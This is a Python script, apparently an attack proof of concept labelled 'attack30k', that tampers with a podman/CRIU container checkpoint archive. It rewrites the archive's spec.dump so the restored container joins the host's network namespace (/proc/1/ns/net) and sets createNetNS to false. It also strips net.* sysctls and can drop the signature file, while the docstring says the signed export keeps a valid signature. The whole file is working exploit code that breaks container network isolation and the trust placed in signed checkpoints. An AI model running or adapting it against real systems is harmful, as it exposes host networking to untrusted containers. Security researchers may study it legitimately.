"""attack30k: a SIGNED export (signature kept, checkpoint/ untouched) of a container on podman's bridge network (its
netns podman's, joined by path, so runc dumped it as CRIU's external extRootNetNS): spec.dump's network namespace path
is set to ARG (default /proc/1/ns/net, the host's) and config.dump's createNetNS to false, so that podman's --import
keeps the archive's path instead of making a netns of its own. runc hands CRIU the namespace at that path.
usage: netjoin.py SRC OUT [NSPATH] [CREATE(0|1)]"""
import io, json, os, sys, tarfile
import zstandard

src, out = sys.argv[1:3]
path = sys.argv[3] if len(sys.argv) > 3 else "/proc/1/ns/net"
create = len(sys.argv) > 4 and sys.argv[4] == "1"
with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as t:
    members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t]
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, d in members:
        if os.environ.get("NOSIG") and m.name == "checkpoint/gpuckpt-dump.sig":
            continue  # NOSIG=1: the unsigned variant (restore:any)
        if m.name == "spec.dump":
            spec = json.loads(d)
            for ns in spec["linux"]["namespaces"]:
                if ns["type"] == "network":
                    ns["path"] = path
            # runc refuses net.* sysctls in its own (the host's) netns: leave them out (nothing checks sysctls)
            spec["linux"]["sysctl"] = {k: v for k, v in spec["linux"].get("sysctl", {}).items() if not k.startswith("net.")}
            d = json.dumps(spec).encode()
        if m.name == "config.dump":
            config = json.loads(d)
            config["createNetNS"] = create
            d = json.dumps(config).encode()
        if d is not None:
            m.size = len(d); tout.addfile(m, io.BytesIO(d))
        else:
            tout.addfile(m)
print("netjoin", path, "createNetNS", create)
